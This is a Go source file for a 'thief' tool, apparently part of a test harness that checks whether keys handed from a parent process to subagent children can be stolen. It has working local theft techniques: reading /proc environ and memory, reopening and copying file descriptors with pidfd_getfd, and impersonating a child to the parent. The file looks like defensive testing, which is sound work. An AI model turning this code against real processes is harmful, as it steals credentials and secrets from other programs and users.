//go:build linux

package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// mark is how every key the parent hands out starts.
const mark = "sk-race-"

// thief attacks the children of a keyrace parent as they start, over and
// over, until stdin closes. It watches the pids just allocated and, for
// each that is a child (by its cmdline, which every process may read):
//
//	environ   reads /proc/<pid>/environ
//	fd3       opens /proc/<pid>/fd/3 and reads what it gets
//	getfd3    takes descriptor 3 with pidfd_getfd, reads it, and through it
//	          asks the parent for the key with a socket of its own
//	getfd     takes descriptors 4 to 6 with pidfd_getfd and reads them
//	mem       opens /proc/<pid>/mem and scans the child's memory with it
//	          until the child is gone
//
// -attacks lists those to make. Every key seen is printed as
//
//	LEAK <attack> <pid> <key>
//
// and at the end a line of counts: "stats name=N …", where seen counts the
// children it found and reached those whose environ it could read (while
// they were dumpable).
func thief(args []string) int {
	fs := flag.NewFlagSet("thief", flag.ExitOnError)
	dropPtrace := fs.Bool("drop-ptrace", false, "give up CAP_SYS_PTRACE first (a root without it, as in a container)")
	workers := fs.Int("workers", 2, "attacking goroutines")
	attacks := fs.String("attacks", "environ,fd3,getfd3,getfd,mem", "attacks to make")
	_ = fs.Parse(args)
	if *dropPtrace {
		if err := dropCapSysPtrace(); err != nil {
			fmt.Fprintln(os.Stderr, "thief:", err)
			return 1
		}
	}
	t := &thiefState{done: make(chan struct{}), tried: map[int]*tries{}, on: map[string]bool{}}
	for _, a := range strings.Split(*attacks, ",") {
		t.on[a] = true
	}
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin) // until EOF
		close(t.done)
	}()
	fmt.Println("ready")
	var wg sync.WaitGroup
	for range *workers {
		wg.Add(1)
		go func() { defer wg.Done(); t.loop() }()
	}
	wg.Wait()
	t.drains.Wait()
	fmt.Println(t.stats())
	return 0
}

type thiefState struct {
	on     map[string]bool
	done   chan struct{}
	drains sync.WaitGroup

	mu    sync.Mutex
	tried map[int]*tries

	seen, reached, fdOpened, fdRefused, getfd, impersonated, memOpened, leaks atomic.Int64
}

// tries is what has been taken from one pid already.
type tries struct {
	environ, mem bool
	fds          [7]bool
}

func (t *thiefState) stats() string {
	return fmt.Sprintf("stats seen=%d reached=%d fd3_opened=%d fd3_refused=%d getfd=%d impersonations=%d mem_opened=%d leaks=%d",
		t.seen.Load(), t.reached.Load(), t.fdOpened.Load(), t.fdRefused.Load(), t.getfd.Load(), t.impersonated.Load(), t.memOpened.Load(), t.leaks.Load())
}

func (t *thiefState) loop() {
	for {
		select {
		case <-t.done:
			return
		default:
		}
		last := lastPid()
		for pid := last - 1; pid <= last+3; pid++ {
			if pid > 1 {
				t.attack(pid)
			}
		}
	}
}

func lastPid() int {
	b, _ := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

func (t *thiefState) leak(how string, pid int, data []byte) bool {
	i := bytes.Index(data, []byte(mark))
	if i < 0 {
		return false
	}
	end := i + len(mark)
	for end < len(data) && end < i+64 && data[end] > ' ' && data[end] < 0x7f {
		end++
	}
	t.leaks.Add(1)
	fmt.Printf("LEAK %s %d %s\n", how, pid, data[i:end])
	return true
}

// attack makes every attack on pid if it is a child.
func (t *thiefState) attack(pid int) {
	proc := "/proc/" + strconv.Itoa(pid)
	cmdline, err := os.ReadFile(proc + "/cmdline")
	if err != nil || !bytes.Contains(cmdline, []byte("subagent\x00--task")) {
		return
	}
	t.mu.Lock()
	tr := t.tried[pid]
	if tr == nil {
		tr = &tries{}
		t.tried[pid] = tr
		t.seen.Add(1)
	}
	t.mu.Unlock()
	if t.on["environ"] {
		if env, err := os.ReadFile(proc + "/environ"); err == nil {
			t.leak("environ", pid, env)
			if t.first(&tr.environ) {
				t.reached.Add(1)
			}
		}
	}
	if t.on["fd3"] {
		t.openFD3(pid, proc)
	}
	if t.on["getfd3"] || t.on["getfd"] {
		t.takeDescriptors(pid, tr)
	}
	if t.on["mem"] {
		t.takeMemory(pid, proc, tr)
	}
}

// first sets *flag under the lock and reports whether it was unset.
func (t *thiefState) first(flag *bool) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	was := *flag
	*flag = true
	return !was
}

// openFD3 reopens the child's descriptor 3 through /proc.
func (t *thiefState) openFD3(pid int, proc string) {
	fd, err := unix.Open(proc+"/fd/3", unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err == unix.ENXIO {
		t.fdRefused.Add(1)
		return
	}
	if err != nil {
		return
	}
	t.fdOpened.Add(1)
	t.drain("fd3-open", pid, fd)
}

// takeDescriptors copies the child's descriptors with pidfd_getfd: 3
// (getfd3), 4 to 6 (getfd), each once.
func (t *thiefState) takeDescriptors(pid int, tr *tries) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return
	}
	defer unix.Close(pidfd)
	for n := 3; n <= 6; n++ {
		if (n == 3 && !t.on["getfd3"]) || (n > 3 && !t.on["getfd"]) {
			continue
		}
		fd, err := unix.PidfdGetfd(pidfd, n, 0)
		if err != nil {
			continue
		}
		if !t.first(&tr.fds[n]) {
			unix.Close(fd)
			continue
		}
		t.getfd.Add(1)
		if n == 3 {
			t.impersonate(pid, fd)
		}
		t.drain(fmt.Sprintf("pidfd_getfd-%d", n), pid, fd)
	}
}

// impersonate sends the parent, through the child's stolen descriptor 3,
// the request the child would send, with a socket of the thief's own.
func (t *thiefState) impersonate(pid, stolen int) {
	typ, err := unix.GetsockoptInt(stolen, unix.SOL_SOCKET, unix.SO_TYPE)
	if err != nil || typ != unix.SOCK_SEQPACKET {
		return
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	err = unix.Sendmsg(stolen, []byte("odek-key/1"), unix.UnixRights(pair[1]), nil, unix.MSG_DONTWAIT)
	unix.Close(pair[1])
	if err != nil {
		unix.Close(pair[0])
		return
	}
	t.impersonated.Add(1)
	t.drain("impersonation", pid, pair[0])
}

// takeMemory opens the child's memory while it is dumpable and scans it,
// through that descriptor, until the child is gone.
func (t *thiefState) takeMemory(pid int, proc string, tr *tries) {
	mem, err := os.Open(proc + "/mem")
	if err != nil {
		return
	}
	if !t.first(&tr.mem) {
		mem.Close()
		return
	}
	maps, err := os.ReadFile(proc + "/maps")
	if err != nil {
		mem.Close()
		return
	}
	t.memOpened.Add(1)
	regions := writable(maps)
	t.drains.Add(1)
	go func() {
		defer t.drains.Done()
		defer mem.Close()
		buf := make([]byte, 1<<20)
		for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); {
			alive := false
			for _, r := range regions {
				for off := r[0]; off < r[1]; off += uint64(len(buf)) {
					n, err := mem.ReadAt(buf[:min(uint64(len(buf)), r[1]-off)], int64(off))
					if n > 0 {
						alive = true
						if t.leak("mem", pid, buf[:n]) {
							return
						}
					}
					if err != nil {
						break
					}
				}
			}
			if !alive {
				return
			}
		}
	}()
}

// writable lists the private writable mappings of a maps file, up to 64 MiB
// each.
func writable(maps []byte) [][2]uint64 {
	var out [][2]uint64
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		a, _ := strconv.ParseUint(lo, 16, 64)
		b, _ := strconv.ParseUint(hi, 16, 64)
		if b > a && b-a <= 64<<20 {
			out = append(out, [2]uint64{a, b})
		}
	}
	return out
}

// drain reads fd (a file, a pipe or a socket, with any descriptors that
// come through it) for a while, looking for a key, then closes it.
func (t *thiefState) drain(how string, pid, fd int) {
	t.drains.Add(1)
	go func() {
		defer t.drains.Done()
		defer unix.Close(fd)
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG {
			buf := make([]byte, 64<<10)
			n, _ := unix.Pread(fd, buf, 0)
			if n > 0 {
				t.leak(how, pid, buf[:n])
			}
			return
		}
		_ = unix.SetNonblock(fd, true)
		buf := make([]byte, 64<<10)
		oob := make([]byte, unix.CmsgSpace(4*8))
		for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); {
			fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
			if n, _ := unix.Poll(fds, 50); n == 0 {
				continue
			}
			n, oobn, _, _, err := unix.Recvmsg(fd, buf, oob, unix.MSG_DONTWAIT|unix.MSG_CMSG_CLOEXEC)
			if err == unix.ENOTSOCK {
				n, err = unix.Read(fd, buf)
				oobn = 0
			}
			if n > 0 {
				t.leak(how, pid, buf[:n])
			}
			if msgs, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil {
				for i := range msgs {
					got, _ := unix.ParseUnixRights(&msgs[i])
					for _, g := range got {
						t.drain(how+"-passed", pid, g)
					}
				}
			}
			if (n == 0 && oobn == 0 && err == nil) || (err != nil && err != unix.EAGAIN) {
				return
			}
		}
	}()
}

// dropCapSysPtrace drops CAP_SYS_PTRACE from the bounding set and execs
// this program again, so that every thread of it runs without it.
func dropCapSysPtrace() error {
	if os.Getenv("KEYRACE_DROPPED") == "1" {
		status, err := os.ReadFile("/proc/self/status")
		if err != nil {
			return err
		}
		for _, l := range strings.Split(string(status), "\n") {
			if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
				caps, _ := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
				if caps&(1<<unix.CAP_SYS_PTRACE) != 0 {
					return fmt.Errorf("CAP_SYS_PTRACE is still effective")
				}
				return nil
			}
		}
		return fmt.Errorf("no CapEff in /proc/self/status")
	}
	if err := unix.Prctl(unix.PR_CAPBSET_DROP, unix.CAP_SYS_PTRACE, 0, 0, 0); err != nil {
		return fmt.Errorf("drop CAP_SYS_PTRACE: %w", err)
	}
	exe, err := os.Executable()
	if err != nil {
		return err
	}
	return syscall.Exec(exe, os.Args, append(os.Environ(), "KEYRACE_DROPPED=1"))
}
